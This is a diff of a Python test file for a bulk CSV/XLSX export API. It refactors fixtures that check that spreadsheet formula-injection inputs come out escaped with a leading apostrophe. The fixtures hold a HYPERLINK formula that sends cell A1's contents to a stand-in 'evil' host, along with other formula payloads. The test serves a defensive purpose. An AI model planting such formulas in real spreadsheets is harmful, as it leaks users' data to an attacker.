@@ -4,6 +4,7 @@ literal (CSV and XLSX; the import results CSV is tested with import jobs) and im
 import csv
 import io
 import zipfile
+from typing import Any
 
 import httpx
 from openpyxl import load_workbook
@@ -12,14 +13,15 @@ from tests.api.bulk.helpers import EXPORT, IMPORT
 from tests.conftest import Keys
 from tests.factories import USCC, in_library
 
-HOSTILE = {
-    "name": '=HYPERLINK("http://evil/?"&A1,"x")',
+FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
+HOSTILE: dict[str, Any] = {
+    "name": FORMULA,
     "summary": "+1+1",
     "owner": {"name": "@SUM(1)", "uscc": USCC, "type": "private"},
     "contact": {"name": "-2+3", "phone": "+86 755 0000 0000", "email": "li@example.cn"},
 }
 SHOWN = {
-    "name": "'" + HOSTILE["name"],
+    "name": "'" + FORMULA,
     "summary": "'+1+1",
     "owner_name": "'@SUM(1)",
     "contact_name": "'-2+3",
